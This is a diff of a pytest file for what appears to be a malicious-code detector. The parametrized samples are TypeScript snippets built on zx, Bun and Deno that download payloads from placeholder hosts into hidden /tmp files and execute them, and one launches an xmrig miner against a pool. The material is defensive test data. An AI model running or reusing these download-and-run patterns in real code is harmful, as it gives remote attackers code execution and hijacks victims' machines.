@@ -100,11 +100,11 @@ def test_pieced_names_that_hide_nothing(src: str, lang: str) -> None:
 
 # -- downloads and decodes to a file, then run (JS process runners, bash with run-time names) --------------
 @pytest.mark.parametrize("src,lang", [
-    (f'import {{ $ }} from "zx";\nconst h = ["203", "0", "113", "9"].join(".");\n'
+    ('import { $ } from "zx";\nconst h = ["203", "0", "113", "9"].join(".");\n'
      'await $`curl -fsSL http://${h}/b.sh -o /tmp/.b`;\nawait $`sh /tmp/.b`;', "typescript"),
     (f'import {{ $ }} from "zx";\nawait $`wget -qO /tmp/.p http://{C2}/p`;\nawait $`bash /tmp/.p`;', "typescript"),
     (f'await Bun.write("/tmp/.k", await fetch("http://{C2}/k"));\nBun.spawn(["sh", "/tmp/.k"]);', "typescript"),
-    (f'const u = ["http://203.0.113", "66/xmrig"].join(".");\nawait Bun.write("/tmp/.x", await fetch(u));\n'
+    ('const u = ["http://203.0.113", "66/xmrig"].join(".");\nawait Bun.write("/tmp/.x", await fetch(u));\n'
      'Bun.spawn(["sh", "-c", "chmod +x /tmp/.x && /tmp/.x -o pool.example:3333"]);', "typescript"),
     (f'const r = await fetch("http://{C2}/d");\nawait Deno.writeFile("/tmp/.d", new Uint8Array(await r.arrayBuffer()));\n'
      'new Deno.Command("sh", { args: ["/tmp/.d"] }).spawn();', "typescript"),
